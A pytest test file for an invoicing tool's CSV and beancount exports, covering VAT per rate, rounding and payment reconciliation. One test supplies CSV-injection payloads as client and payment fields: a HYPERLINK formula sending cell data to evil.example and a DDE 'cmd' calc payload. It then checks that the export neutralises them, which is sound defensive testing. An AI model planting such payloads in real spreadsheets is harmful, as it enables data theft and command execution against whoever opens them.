"""billed export: CSV tables and a beancount journal that bean-check accepts and that agrees with the aging."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from billed import api
from tests.conftest import run, write
from tests.test_payments import PROJECT

BEAN_CHECK = str(Path(sys.executable).with_name("bean-check"))
USD = PROJECT.replace("title: Website\n", "title: Website US\ncurrency: USD\n").replace("deposit: 2000.00\n", "")
USD = USD.replace("    final: true\n", "")


@pytest.fixture
def books(repo) -> Path:
    """Deposit, milestone, final with the deposit deducted, a credit note, a USD project, partial payments and
    an overpayment: every kind of posting."""
    root = repo({"projects/nordlicht/site.yaml": PROJECT, "projects/nordlicht/us.yaml": USD})
    assert run(root, "issue", "--date", "2026-02-10", "--no-pdf").code == 0
    write(root, {"projects/nordlicht/us.yaml": USD.replace("amount: 6000.00", "amount: 5000.00").replace(
        "total: 10000.00\n", "")})
    assert run(root, "issue", "--date", "2026-02-11", "--no-pdf").code == 0
    for number, amount, day in (("INV-2026-0001", "2380.00", "2026-02-12"), ("INV-2026-0002", "1000.00", "2026-02-13"),
                                ("INV-2026-0004", "5000.00", "2026-02-14"), ("INV-2026-0003", "5000.00", "2026-02-15")):
        assert run(root, "pay", number, amount, "--date", day).code == 0, number
    return root


def test_csv_documents_and_payments(books, tmp_path):
    result = run(books, "export", "--format", "csv", "--date", "2026-03-01", "--out", str(tmp_path / "out"))
    assert result.code == 0, result.err
    docs = list(csv.DictReader((tmp_path / "out/documents.csv").open()))
    pays = list(csv.DictReader((tmp_path / "out/payments.csv").open()))
    assert [d["number"] for d in docs] == ["INV-2026-0001", "INV-2026-0002", "INV-2026-0003", "INV-2026-0004",
                                           "INV-2026-0005", "CN-2026-0001"]
    by = {d["number"]: d for d in docs}
    assert (by["INV-2026-0003"]["total"], by["INV-2026-0003"]["prepaid"]) == ("4760.00", "INV-2026-0001")
    assert (by["CN-2026-0001"]["total"], by["CN-2026-0001"]["corrects"]) == ("-1190.00", "INV-2026-0005")
    assert (by["INV-2026-0003"]["state"], by["INV-2026-0003"]["balance"]) == ("paid", "-240.00")
    assert by["INV-2026-0004"]["currency"] == "USD"
    assert [(p["date"], p["invoice"], p["amount"], p["currency"]) for p in pays][-2:] == [
        ("2026-02-14", "INV-2026-0004", "5000.00", "USD"), ("2026-02-15", "INV-2026-0003", "5000.00", "EUR")]
    # --stdout prints one table; --date leaves out what came later
    early = run(books, "export", "--format", "csv", "--what", "payments", "--stdout", "--date", "2026-02-12")
    assert [r["invoice"] for r in csv.DictReader(io.StringIO(early.out))] == ["INV-2026-0001"]


def test_beancount_passes_bean_check_and_matches_the_aging(books, tmp_path):
    result = run(books, "export", "--format", "beancount", "--date", "2026-03-01", "--out", str(tmp_path))
    assert result.code == 0, result.err
    journal = tmp_path / "billed.beancount"
    check = subprocess.run([BEAN_CHECK, str(journal)], capture_output=True, text=True, timeout=60)
    assert check.returncode == 0, check.stdout + check.stderr
    from beancount import loader
    from beancount.core import realization

    entries, errors, _ = loader.load_file(str(journal))
    assert errors == []
    real = realization.realize(entries)
    owed = {(pos.units.currency): pos.units.number for pos in
            realization.get(real, "Assets:Receivable:Nordlicht").balance}
    states = api.document_states(api.load(books), dt.date(2026, 3, 1))
    for cur in ("EUR", "USD"):
        assert owed[cur] == sum((s.balance for s in states if s.currency == cur), Decimal(0))
    advances = realization.get(real, "Liabilities:Advances").balance
    assert advances.is_empty()  # the deposit was deducted on the final invoice: no advance left
    vat = {p.units.currency: p.units.number
           for p in realization.compute_balance(realization.get(real, "Liabilities:VAT"))}  # all rates
    assert vat["EUR"] == Decimal("-1900.00")  # 19% of the 10000.00 EUR contract, deposit included once
    bank = {p.units.currency: p.units.number for p in realization.get(real, "Assets:Bank").balance}
    assert bank == {"EUR": Decimal("8380.00"), "USD": Decimal("5000.00")}


def test_export_help_and_bad_repo(books):
    assert "bean-check" in run(books, "export", "--help").out
    write(books, {"payments/2026.yaml": "- invoice: NOPE\n  amount: 1\n  date: 2026-02-01\n"})
    result = run(books, "export", "--format", "csv", "--stdout")
    assert result.code == 1 and "[E070]" in result.err


SPLIT = """\
title: Shop
total: 10000.00
start: 2026-01-05
tax_rate: 16
deposit: 2000.00
milestones:
  - {id: design, title: Design, amount: 6000.00, status: done, done: 2026-01-20}
  - {id: launch, title: Launch, amount: 4000.00, final: true}
"""


def test_a_final_invoice_at_two_rates_exports_a_row_per_rate_and_posts_vat_per_rate(repo, tmp_path):
    """Deposit and design billed at 16%, then the rate goes to 19% before the launch: the final invoice charges
    4000.00 at 19% and deducts the 2000.00 deposit at the 16% it was invoiced at."""
    kaffee = ("name: Kaffeehaus Lindner GmbH\naddress: [Mariahilfer Straße 88, 1070 Wien]\ncountry: AT\n"
              "vat_id: ATU13585627\nemail: office@kaffeehaus.example\ntax: reverse_charge\n")
    root = repo({"projects/nordlicht/shop.yaml": SPLIT, "projects/kaffee/client.yaml": kaffee,
                 "projects/kaffee/shop.yaml": SPLIT.replace("deposit: 2000.00\n", "").replace(", final: true", "")})
    assert run(root, "issue", "--date", "2026-01-21", "--no-pdf").code == 0
    done = SPLIT.replace("tax_rate: 16", "tax_rate: 19").replace(
        "amount: 4000.00, final: true", "amount: 4000.00, final: true, status: done, done: 2026-02-01")
    write(root, {"projects/nordlicht/shop.yaml": done})
    assert run(root, "issue", "--date", "2026-02-02", "--no-pdf").code == 0
    out = run(root, "export", "--format", "csv", "--stdout", "--date", "2026-02-02").out
    rows = [(r["number"], r["tax_rate"], r["category"], r["net"], r["tax"], r["total"], r["document_total"],
             r["buyer_vat_id"]) for r in csv.DictReader(io.StringIO(out))]
    assert rows == [
        ("INV-2026-0001", "0", "AE", "6000.00", "0.00", "6000.00", "6000.00", "ATU13585627"),  # reverse charge
        ("INV-2026-0002", "16", "S", "2000.00", "320.00", "2320.00", "2320.00", "DE987654321"),  # deposit
        ("INV-2026-0003", "16", "S", "6000.00", "960.00", "6960.00", "6960.00", "DE987654321"),
        ("INV-2026-0004", "16", "S", "-2000.00", "-320.00", "-2320.00", "2440.00", "DE987654321"),  # final
        ("INV-2026-0004", "19", "S", "4000.00", "760.00", "4760.00", "2440.00", "DE987654321"),
    ]
    result = run(root, "export", "--format", "beancount", "--date", "2026-02-02", "--out", str(tmp_path))
    assert result.code == 0, result.err
    check = subprocess.run([BEAN_CHECK, str(tmp_path / "billed.beancount")], capture_output=True, text=True,
                           timeout=60)
    assert check.returncode == 0, check.stdout + check.stderr
    journal = (tmp_path / "billed.beancount").read_text(encoding="utf-8")
    assert "Liabilities:VAT:16" in journal and "Liabilities:VAT:19" in journal
    from beancount import loader
    from beancount.core import realization

    real = realization.realize(loader.load_file(str(tmp_path / "billed.beancount"))[0])
    vat = {rate: realization.get(real, f"Liabilities:VAT:{rate}").balance.get_currency_units("EUR").number
           for rate in ("16", "19")}
    assert vat == {"16": Decimal("-960.00"), "19": Decimal("-760.00")}  # 320 + 960 - 320; 760


HOSTILE_CLIENT = """\
name: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Open\\")"
address: [Torstraße 140, 10119 Berlin]
country: DE
vat_id: "+DE987654321"
email: rechnungen@nordlicht.example
"""


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo, tmp_path):
    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading single quote; the signed amounts
    of a credit note and of a reversal stay plain numbers a spreadsheet can sum."""
    root = repo({"projects/nordlicht/client.yaml": HOSTILE_CLIENT, "projects/nordlicht/site.yaml": PROJECT})
    assert run(root, "issue", "--date", "2026-02-10", "--no-pdf").code == 0
    write(root, {"projects/nordlicht/site.yaml": PROJECT.replace("amount: 4000.00", "amount: 3000.00").replace(
        "total: 10000.00\n", "")})
    assert run(root, "issue", "--date", "2026-02-11", "--no-pdf").code == 0  # CN-2026-0001 for -1000.00 net
    hostile = {"@SUM(1+1)": "-2+3", "\tcash": "\r=1+1", "-bank": "=cmd|' /C calc'!A0"}
    for method, reference in hostile.items():
        assert run(root, "pay", "INV-2026-0001", "1.00", "--date", "2026-02-12", "--method", method,
                   "--reference", reference).code == 0, method
    result = run(root, "export", "--format", "csv", "--date", "2026-03-01", "--out", str(tmp_path / "out"))
    assert result.code == 0, result.err
    docs = list(csv.DictReader((tmp_path / "out/documents.csv").open(newline="")))
    assert {d["buyer"] for d in docs} == {"'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"}
    assert {d["buyer_vat_id"] for d in docs} == {"'+DE987654321"}
    credit = next(d for d in docs if d["number"] == "CN-2026-0001")
    assert (credit["net"], credit["tax"], credit["total"]) == ("-1000.00", "-190.00", "-1190.00")
    pays = list(csv.DictReader((tmp_path / "out/payments.csv").open(newline="")))
    assert [(p["method"], p["reference"]) for p in pays] == [("'@SUM(1+1)", "'-2+3"), ("'\tcash", "'\r=1+1"),
                                                             ("'-bank", "'=cmd|' /C calc'!A0")]
    assert [p["amount"] for p in pays] == ["1.00", "1.00", "1.00"]
    for name in ("documents.csv", "payments.csv"):
        for row in csv.reader((tmp_path / "out" / name).open(newline="")):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
                assert not value.startswith("-") or value[1:].replace(".", "").isdigit(), (name, value)


THIRDS = """\
title: Thirds
start: 2026-01-05
deposit: 111.11
milestones:
  - {id: a, title: A, amount: 333.33, status: done, done: 2026-02-01}
  - {id: b, title: B, amount: 333.33, status: done, done: 2026-02-02}
  - {id: c, title: C, amount: 333.34, final: true}
"""


def test_vat_rounding_per_project_reconciles_the_books_to_the_cent(repo, tmp_path):
    """Issue 11 point 4: each document rounds its own VAT at 19%: deposit 111.11 -> 21.11 (21.1109), a and b
    333.33 -> 63.33 (63.3327) each; together 147.77, while 19% of their net 777.77 is 147.7763 -> 147.78. The
    books say so (vat_rounding -0.01) until the final invoice squares it: 333.34 - 111.11 = 222.23 net carries
    190.00 - 147.77 = 42.23, and the project's VAT is 19% of 1000.00 = 190.00."""
    root = repo({"projects/nordlicht/thirds.yaml": THIRDS})
    assert run(root, "issue", "--date", "2026-02-10", "--no-pdf").code == 0
    before = run(root, "export", "--format", "csv", "--what", "projects", "--stdout", "--date", "2026-02-10")
    assert before.code == 0, before.err
    assert [dict(r) for r in csv.DictReader(io.StringIO(before.out))] == [
        {"project": "nordlicht/thirds", "client": "nordlicht", "currency": "EUR", "net": "777.77", "vat": "147.77",
         "vat_on_net": "147.78", "vat_rounding": "-0.01"}]
    docs = csv.DictReader(io.StringIO(run(root, "export", "--format", "csv", "--stdout", "--date", "2026-02-10").out))
    assert sum(Decimal(d["tax"]) for d in docs) == Decimal("147.77")  # 21.11 + 63.33 + 63.33: what projects.csv says
    assert run(root, "export", "--format", "beancount", "--date", "2026-02-10", "--out", str(tmp_path)).code == 0
    journal = (tmp_path / "billed.beancount").read_text(encoding="utf-8")
    assert ("; nordlicht/thirds EUR: net 777.77, VAT invoiced 147.77, VAT on net 147.78, vat_rounding -0.01\n"
            in journal)
    check = subprocess.run([BEAN_CHECK, str(tmp_path / "billed.beancount")], capture_output=True, text=True,
                           timeout=60)
    assert check.returncode == 0, check.stdout + check.stderr

    write(root, {"projects/nordlicht/thirds.yaml": THIRDS.replace("final: true", "final: true, status: done, "
                                                                                 "done: 2026-02-03")})
    assert run(root, "issue", "--date", "2026-02-11", "--no-pdf").code == 0
    assert run(root, "export", "--format", "csv", "--date", "2026-02-11", "--out", str(tmp_path)).code == 0
    [after] = csv.DictReader((tmp_path / "projects.csv").open(newline=""))
    assert (after["net"], after["vat"], after["vat_on_net"], after["vat_rounding"]) == (
        "1000.00", "190.00", "190.00", "0.00")  # 777.77 + 222.23; 147.77 + 42.23
    assert run(root, "export", "--format", "beancount", "--date", "2026-02-11", "--out", str(tmp_path)).code == 0
    assert "vat_rounding" not in (tmp_path / "billed.beancount").read_text(encoding="utf-8")
